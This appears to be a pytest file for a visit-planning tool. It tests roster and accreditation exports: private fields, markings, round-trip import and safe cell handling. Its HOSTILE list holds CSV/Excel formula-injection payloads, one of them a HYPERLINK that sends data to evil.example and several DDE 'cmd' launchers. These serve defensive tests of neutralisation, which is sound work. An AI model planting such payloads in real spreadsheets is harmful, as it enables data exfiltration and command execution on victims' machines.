"""Roster and accreditation exports: what French Excel opens, what stays private, what is safe.

And the round trip: importing our own export gives back the same roster.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.factories import small_visit
from visitplanner.demo import build_demo
from visitplanner.domain.car_seats import CarAssignment, CarSeat
from visitplanner.domain.model import Person, VisitData
from visitplanner.domain.values import EventKind, EventStatus, Profile
from visitplanner.operations.session import VisitSession
from visitplanner.services.rosters import (
    ImportOptions,
    apply_import,
    export_roster,
    plan_import,
    read_roster,
)
from visitplanner.services.visit_files import read_visit, write_visit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script> & <b>gras</b>",
]

PRIVATE_VALUES = ("+380 67 111 11 11", "FX000001", "sans gluten", "fauteuil roulant")


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx_rows(path: Path) -> list[list[object]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_csv_is_what_french_excel_opens(tmp_path: Path) -> None:
    out = tmp_path / "roster.csv"
    count = export_roster(small_visit(), out, lang="fr")
    assert count == 3
    raw = out.read_bytes()
    assert raw.startswith("\ufeffDélégation;Rang;".encode())
    assert b"\r\n" in raw
    assert out.stat().st_mode & 0o777 == 0o600


def test_people_come_in_order_of_precedence(tmp_path: Path) -> None:
    data = small_visit()
    data.delegations[0].position, data.delegations[1].position = 5, 1
    data.people[0].rank, data.people[1].rank = 9, 2  # the veteran now before the minister
    out = tmp_path / "roster.csv"
    export_roster(data, out, lang="en")
    rows = _csv_rows(out)
    family = rows[0].index("Family name")
    assert [row[family] for row in rows[1:]] == ["Rufo", "Koval'", "Kalmykova"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_shareable_roster_holds_no_private_field(tmp_path: Path, suffix: str) -> None:
    shareable, internal = tmp_path / f"s{suffix}", tmp_path / f"i{suffix}"
    export_roster(small_visit(), shareable)
    export_roster(small_visit(), internal, Profile.INTERNAL)
    text_of = _csv_rows if suffix == ".csv" else _xlsx_rows
    shared_text = repr(text_of(shareable))
    internal_text = repr(text_of(internal))
    for value in PRIVATE_VALUES:
        assert value not in shared_text
        assert value in internal_text
    assert "Kalmykova" in shared_text


def test_an_unknown_suffix_is_refused(tmp_path: Path) -> None:
    from visitplanner.domain.errors import InputError

    with pytest.raises(InputError, match=r"\.csv or \.xlsx"):
        export_roster(small_visit(), tmp_path / "roster.ods")


def _seated(data: VisitData) -> VisitData:
    """The small visit with its talks made a transfer in the car: the minister and the
    host in it (the car plan gives the plates), the veteran not."""
    move = data.events[1]
    move.kind = EventKind.TRANSFER
    car = data.vehicles[0].id
    data.car_assignments = [
        CarAssignment(move.id, car, data.people[0].id, CarSeat.REAR_RIGHT),
        CarAssignment(move.id, car, data.people[2].id, CarSeat.REAR_LEFT),
    ]
    return data


def test_the_accreditation_list_has_what_security_asks_for(tmp_path: Path) -> None:
    data = _seated(small_visit())
    out = tmp_path / "accreditation.csv"
    export_roster(data, out, Profile.INTERNAL, accreditation=True, lang="en")
    header, *rows = _csv_rows(out)
    assert header == [
        "Marking", "Delegation", "Family name", "Given name", "Name as in passport",
        "Date of birth", "Nationality", "Passport number", "Passport expiry date",
        "Vehicle plates",
    ]  # fmt: skip
    minister = rows[0]
    assert minister[4:] == [
        "KALMYKOVA NATALIIA", "1970-01-02", "UKR", "FX000001", "2030-01-01", "GA-123-BC",
    ]  # fmt: skip
    by_name = {row[2]: row for row in rows}  # after the marking's column
    assert by_name["Koval'"][9] == ""  # in no car
    assert by_name["Rufo"][9] == "GA-123-BC"


def test_a_cancelled_transfer_gives_no_plate(tmp_path: Path) -> None:
    data = _seated(small_visit())
    data.events[1].status = EventStatus.CANCELLED
    out = tmp_path / "accreditation.xlsx"
    export_roster(data, out, Profile.INTERNAL, accreditation=True)
    rows = _xlsx_rows(out)
    assert all(row[9] in ("", None) for row in rows[2:])


def _hostile_visit() -> VisitData:
    data = small_visit()
    host = data.people[2]
    for index, text in enumerate(HOSTILE):
        data.people.append(
            Person(
                family_name=text,
                given_name=text,
                duty_phone=text[:100],
                delegation_id=host.delegation_id,
                rank=10 + index,
            )
        )
    return data


def test_hostile_csv_cells_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "roster.csv"
    export_roster(_hostile_visit(), out, lang="en")
    rows = _csv_rows(out)
    family = rows[0].index("Family name")
    written = [row[family] for row in rows[1:]][3:]
    for original, cell in zip(HOSTILE, written, strict=True):
        if original.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + original
        else:
            assert cell == original  # markup is text, kept as it is
    duty = [row[rows[0].index("Duty phone")] for row in rows[1:]]
    assert "'+380 44 000 00 00" in duty  # a phone starting with + is neutralised too


def test_hostile_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "roster.xlsx"
    export_roster(_hostile_visit(), out, lang="en")
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = load_workbook(out).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    cells = [row[5] for row in sheet.iter_rows(min_row=5)]
    # Still text, still quote-prefixed. A carriage return comes back as written where
    # openpyxl writes with lxml (as "&#13;", lxml comes with the caldav library), as a
    # line feed where it writes with xml.etree (a raw carriage return, read as one).
    assert [c.value for c in cells] in (
        list(HOSTILE),
        [text.replace("\r", "\n") for text in HOSTILE],
    )
    assert all(c.data_type == "s" for c in cells)
    assert [bool(c.quotePrefix) for c in cells] == [True] * 6 + [False]


def _empty_copy(data: VisitData) -> VisitData:
    """The same visit and delegations, without people or anything that refers to them."""
    copy = dataclasses.replace(
        data,
        people=[],
        events=[],
        vehicles=[],
        car_assignments=[],
        gifts=[],
        stays=[],
        seating_constraints=[],
    )
    copy.delegations = [dataclasses.replace(d, head_id=None) for d in data.delegations]
    return copy


def _as_exported(person: Person) -> Person:
    """A person as a roster sheet carries it (no photo, no décret position: the office
    gives it in the person editor; sample data becomes real)."""
    return dataclasses.replace(
        person, photo=None, photo_type="", sample=False, precedence_position=None
    )


def _zones(people: list[Person]) -> list[tuple[str, str]]:
    return [
        (str(p.arrival.time.tzinfo) if p.arrival.time else "",
         str(p.departure.time.tzinfo) if p.departure.time else "")
        for p in people
    ]  # fmt: skip


@pytest.mark.parametrize(("suffix", "lang"), [(".csv", "fr"), (".xlsx", "uk"), (".csv", "en")])
def test_importing_our_own_export_gives_back_the_same_roster(
    tmp_path: Path, suffix: str, lang: str
) -> None:
    demo = build_demo()
    demo.people[0].family_name = HOSTILE[0]
    demo.people[1].duty_phone = HOSTILE[1][:100]
    demo.people[2].notes = HOSTILE[6]
    demo.people[3].latin_derived = True
    exported = tmp_path / f"roster{suffix}"
    export_roster(demo, exported, Profile.INTERNAL, lang=lang)
    target = tmp_path / "empty.visit"
    write_visit(target, _empty_copy(demo))
    session = VisitSession.open(target)
    plan = plan_import(session.data, read_roster(exported))
    assert not plan.errors and not plan.new_delegations
    apply_import(session, plan)
    session.close()
    imported = sorted(read_visit(target).people, key=lambda p: p.id)
    expected = sorted((_as_exported(p) for p in demo.people), key=lambda p: p.id)
    assert imported == expected
    assert _zones(imported) == _zones(expected)


def test_re_importing_our_own_export_changes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "demo.visit"
    write_visit(path, build_demo())
    exported = tmp_path / "roster.xlsx"
    export_roster(read_visit(path), exported, Profile.SHAREABLE, lang="fr")
    session = VisitSession.open(path)
    plan = plan_import(session.data, read_roster(exported), ImportOptions())
    session.close()
    assert not plan.errors
    assert len(plan.of("unchanged")) == len(plan.people) == 29


@pytest.mark.parametrize("accreditation", [False, True])
def test_characters_xml_cannot_hold_never_break_the_workbook(
    tmp_path: Path, accreditation: bool
) -> None:
    data = small_visit()
    minister = data.people[0]
    minister.family_name = "Kalmy\ufffekova"
    minister.function = minister.function.replace("fr", "Cheffe\uffff de délégation\x07")
    minister.accreditation.passport_name = "KALMYKOVA\ufffe NATALIIA"
    out = tmp_path / "roster.xlsx"
    export_roster(data, out, accreditation=accreditation, lang="fr", profile=Profile.INTERNAL)
    rows = _xlsx_rows(out)  # openpyxl reads it back: the workbook is whole
    cells = [str(value) for row in rows for value in row if value is not None]
    assert "Kalmykova" in cells
    assert not any(ch in text for text in cells for ch in "\ufffe\uffff\x07")
    if accreditation:
        assert "KALMYKOVA NATALIIA" in cells


def test_the_accreditation_list_is_refused_outside_the_internal_profile(tmp_path: Path) -> None:
    from visitplanner.domain.errors import InputError

    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"accreditation{suffix}"
        with pytest.raises(InputError, match="internal by nature"):
            export_roster(small_visit(), out, accreditation=True, lang="en")
        with pytest.raises(InputError, match="internal by nature"):
            export_roster(small_visit(), out, Profile.SHAREABLE, accreditation=True)
        assert not out.exists()


def test_every_row_of_the_accreditation_csv_carries_the_marking(tmp_path: Path) -> None:
    data = small_visit()
    data.visit.marking = "Diffusion restreinte"
    out = tmp_path / "accreditation.csv"
    export_roster(data, out, Profile.INTERNAL, accreditation=True, lang="fr")
    header, *rows = _csv_rows(out)
    marking = (
        "DIFFUSION RESTREINTE — INTERNE\u00a0: données personnelles, pour l’accréditation seule"
    )
    assert header[0] == "Mention"
    assert len(rows) == 3
    assert all(row[0] == marking for row in rows)


def test_the_accreditation_workbook_is_marked_above_its_table_and_on_every_printed_page(
    tmp_path: Path,
) -> None:
    data = small_visit()
    data.visit.marking = "Diffusion restreinte & co"
    out = tmp_path / "accreditation.xlsx"
    export_roster(data, out, Profile.INTERNAL, accreditation=True, lang="en")
    marking = "DIFFUSION RESTREINTE & CO — INTERNAL: personal data, for accreditation only"
    sheet = load_workbook(out).active
    assert sheet is not None
    assert sheet["A1"].value == marking and sheet["A1"].font.b
    assert sheet["A2"].value == "Marking" and sheet["B2"].value == "Delegation"
    assert all(row[0] == marking for row in sheet.iter_rows(min_row=3, values_only=True))
    assert sheet.freeze_panes == "A3"
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.oddHeader.center.text == marking.replace("&", "&&")
    assert sheet.oddFooter.left.text == marking.replace("&", "&&")
    assert sheet.oddFooter.right.text == "&P / &N"


def test_the_roster_itself_carries_no_marking_row(tmp_path: Path) -> None:
    out = tmp_path / "roster.xlsx"
    export_roster(small_visit(), out, lang="en")
    rows = _xlsx_rows(out)
    assert rows[0][0] == "Delegation"
